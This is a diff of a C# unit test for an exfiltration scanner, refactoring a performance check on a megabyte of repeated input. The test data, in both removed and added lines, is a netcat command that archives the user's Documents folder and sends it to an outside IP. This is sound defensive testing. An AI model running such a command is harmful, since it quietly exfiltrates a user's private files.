@@ -1,4 +1,3 @@
-using System.Text;
 using static Custos.Detection.Tests.MechanismCheck;
 
 namespace Custos.Detection.Tests;
@@ -9,7 +8,6 @@ namespace Custos.Detection.Tests;
 /// </summary>
 public sealed class ExfiltrationMechanismTests15
 {
-    private const int Size = 1 << 20;
     private static readonly Scanner Scanner = new();
 
     [Fact]
@@ -190,19 +188,9 @@ public sealed class ExfiltrationMechanismTests15
     private static void AssertLinear(string text) => RepeatedUnit.DoesLinearWork(Scanner, text);
 
     [Fact]
-    public void A_megabyte_of_transfer_commands_split_by_newlines_finishes_quickly()
+    public void A_megabyte_of_transfer_commands_split_by_newlines_is_found_in_linear_work()
     {
-        var sb = new StringBuilder(Size + 64);
-        while (sb.Length < Size)
-        {
-            sb.Append("tar cz ~/Documents | nc 203.0.113.7 9000 # quietly\n");
-        }
-
-        var text = sb.ToString();
-        var watch = System.Diagnostics.Stopwatch.StartNew();
-        var findings = Scanner.Scan(text);
-        watch.Stop();
-        Assert.NotEmpty(findings);
-        Assert.True(watch.Elapsed < TimeSpan.FromSeconds(20), watch.Elapsed.ToString());
+        var findings = RepeatedUnit.DoesLinearWork(Scanner, RepeatedUnit.Megabyte("tar cz ~/Documents | nc 203.0.113.7 9000 # quietly\n"));
+        Assert.Contains(findings, f => f.Type == EntityTypes.Exfiltration);
     }
 }
